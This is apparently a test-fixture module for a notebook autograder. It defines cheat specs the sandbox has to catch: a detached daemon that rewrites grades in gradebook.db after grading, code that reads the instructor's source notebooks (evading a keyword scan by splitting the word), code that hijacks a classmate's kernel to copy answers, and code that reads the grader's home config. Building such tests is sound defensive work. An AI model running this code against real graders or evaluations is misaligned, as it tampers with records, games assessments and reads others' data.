"""The tricks only the sandbox stops (issue 15), for make_cheats.py: reaching outside the kernel's folder and process.

Each is a ``CHEATS_01``-style spec (expected categories, the answer cell it follows, its code), added to
01-reading-the-pact. Under bubblewrap each finds nothing (or, for the daemon, is ended with its kernel) and must
score no more than ``baseline``; graded without the sandbox, each must be flagged ``outside-folder`` (and the
daemon must still be ended before the gradebook is written). ``SANDBOX`` names them for the tests.
"""

from __future__ import annotations

DAEMON = "daemon-edits-gradebook"

CHEATS_SANDBOX_01 = {
    DAEMON: (
        ["outside-folder"],
        "answer_claim_tags",
        f"""\
# CHEAT: outside-folder: a process in a new session outlives the kernel, then adds marks in the gradebook
import os
import sqlite3
import time

_course = os.readlink(f"/proc/{{os.getppid()}}/cwd")  # the grading process works in the course root
_kernel = os.getpid()


def _ended(pid):
    try:
        with open(f"/proc/{{pid}}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] == "Z"
    except OSError:
        return True


_first = os.fork()
if _first == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60000):  # up to ten minutes: until the kernel is gone (and the grade reported)
            if _ended(_kernel):
                break
            time.sleep(0.01)
        _db = os.path.join(_course, "gradebook.db")
        if os.path.exists(_db):
            with sqlite3.connect(_db, timeout=30) as _conn:
                _conn.execute(
                    "update grade set extra_credit = 100 where notebook_id in (select n.id from submitted_notebook n "
                    "join submitted_assignment a on n.assignment_id = a.id where a.student_id = '{DAEMON}')"
                )
            with open(os.path.join(_course, "daemon-was-here.txt"), "w") as _note:
                _note.write("the gradebook was edited after grading")
        os._exit(0)
    os._exit(0)
os.waitpid(_first, 0)
""",
    ),
    "read-course-by-absolute-path": (
        ["outside-folder"],
        "answer_claim_tags",
        """\
# CHEAT: outside-folder: the course root found at run time (the grader's working folder), its source/ read
import json
import os
from pathlib import Path

_hidden = "".join(["sou", "rce"])  # not spelled out: the static scan looks for the word
for _pid in {os.getppid(), os.getpid(), 1}:
    try:
        _root = Path(os.readlink(f"/proc/{_pid}/cwd"))
    except OSError:
        continue
    for _nb in sorted(_root.glob(_hidden + "/01-*/*.ipynb")):
        for _cell in json.loads(_nb.read_text())["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "answer_claim_tags":
                _ns = {}
                exec("".join(_cell["source"]), _ns)
                my_tags = _ns["my_tags"]
""",
    ),
    "read-other-kernel-connection-file": (
        ["outside-folder"],
        "answer_claim_tags",
        """\
# CHEAT: outside-folder: find a classmate's grading kernel (same grading run), read its connection file, copy its answer
import os

from jupyter_client import BlockingKernelClient


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return int(stat.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        return None


_run = _parent(os.getppid())  # the grading run that started this kernel's grading process
for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    if int(_pid) == os.getpid() or _parent(_parent(int(_pid))) != _run:
        continue
    try:
        _args = open(f"/proc/{_pid}/cmdline").read().split("\\0")
    except OSError:
        continue
    if "ipykernel_launcher" in _args and "-f" in _args:
        _client = BlockingKernelClient(connection_file=_args[_args.index("-f") + 1])
        _client.load_connection_file()
        _client.start_channels()
        try:
            _reply = _client.execute_interactive("", user_expressions={"t": "my_tags"}, timeout=3)
            _found = _reply["content"]["user_expressions"]["t"]
            if _found.get("status") == "ok":
                my_tags = eval(_found["data"]["text/plain"])
        except Exception:
            pass
        finally:
            _client.stop_channels()
""",
    ),
    "read-grader-home-config": (
        ["outside-folder"],
        "answer_claim_tags",
        """\
# CHEAT: outside-folder: read the instructor's files in the grading user's home (a seed for hidden cases, say)
import os
from pathlib import Path

_homes = {Path.home()}
try:
    _environ = open(f"/proc/{os.getppid()}/environ").read().split("\\0")
    _homes |= {Path(v.split("=", 1)[1]) for v in _environ if v.startswith("HOME=")}
except OSError:
    pass
_found = {}
for _home in _homes:
    for _path in sorted((_home / ".config").glob("pact-course*/**/*")):
        if _path.is_file():
            _found[str(_path)] = _path.read_text(errors="replace")[:200]
print(f"read {len(_found)} file(s) of the grader's configuration")
""",
    ),
}

SANDBOX = frozenset(CHEATS_SANDBOX_01)
